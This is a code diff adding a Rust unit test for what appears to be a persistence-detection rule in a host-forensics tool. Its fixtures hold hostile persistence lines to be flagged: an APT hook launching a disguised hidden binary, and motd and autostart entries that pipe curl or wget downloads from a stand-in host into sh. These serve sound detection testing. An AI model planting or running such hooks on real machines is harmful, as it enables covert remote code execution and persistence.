@@ -87,3 +87,80 @@ fn lines(
         ));
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::indicators::Indicators;
+    use crate::model::fixture;
+    use minetrace_schemas::findings::{Severity, Subject};
+
+    /// The lines MT-PER-031 names, with their severity.
+    fn hooks(files: Vec<(&[u8], &[u8])>) -> Vec<(String, u32, Severity)> {
+        let model = fixture::model(
+            files
+                .into_iter()
+                .map(|(path, text)| fixture::file(path, Some(text)))
+                .collect(),
+            vec![],
+        );
+        let iocs = Indicators::builtin();
+        let mut out: Vec<(String, u32, Severity)> = detect(&Context {
+            model: &model,
+            iocs: &iocs,
+        })
+        .into_iter()
+        .filter(|f| f.rule == rules::PER_031.id)
+        .flat_map(|f| {
+            let sev = f.severity;
+            f.subjects.into_iter().filter_map(move |s| match s.subject {
+                Subject::Persistence { path, line } => Some((
+                    String::from_utf8_lossy(path.as_bytes()).into_owned(),
+                    line,
+                    sev,
+                )),
+                _ => None,
+            })
+        })
+        .collect();
+        out.sort();
+        out
+    }
+
+    #[test]
+    fn hook_lines_are_judged_as_boot_lines_are() {
+        let found = hooks(vec![
+            (
+                b"/etc/apt/apt.conf.d/99x",
+                b"// sync\nAPT::Update::Pre-Invoke { \"nohup /var/tmp/.apt/kthreadd >/dev/null 2>&1 &\"; };\n\
+                  DPkg::Post-Invoke {\"/usr/bin/test -e /usr/share/dbus-1/system-services/org.freedesktop.PackageKit.service && /usr/bin/gdbus call --system\";};\n",
+            ),
+            (
+                b"/etc/update-motd.d/30-sysinfo",
+                b"#!/bin/sh\nuname -snrvm\ncurl -fsSL http://127.66.9.2/l.sh | sh &\n",
+            ),
+            (
+                b"/home/u/.config/autostart/x.desktop",
+                b"[Desktop Entry]\nTryExec=curl\nExec=/bin/sh -c \"wget -qO- http://127.66.9.2/x | sh\"\n",
+            ),
+            (
+                b"/etc/xdg/autostart/at-spi-dbus-bus.desktop",
+                b"[Desktop Entry]\nExec=/usr/libexec/at-spi-bus-launcher --launch-immediately\n",
+            ),
+        ]);
+        let at: Vec<(&str, u32)> = found.iter().map(|(p, l, _)| (p.as_str(), *l)).collect();
+        assert_eq!(
+            at,
+            vec![
+                ("/etc/apt/apt.conf.d/99x", 2),
+                ("/etc/update-motd.d/30-sysinfo", 3),
+                ("/home/u/.config/autostart/x.desktop", 3),
+            ],
+            "{found:?}"
+        );
+        assert!(
+            found.iter().all(|(_, _, s)| *s >= Severity::High),
+            "{found:?}"
+        );
+    }
+}
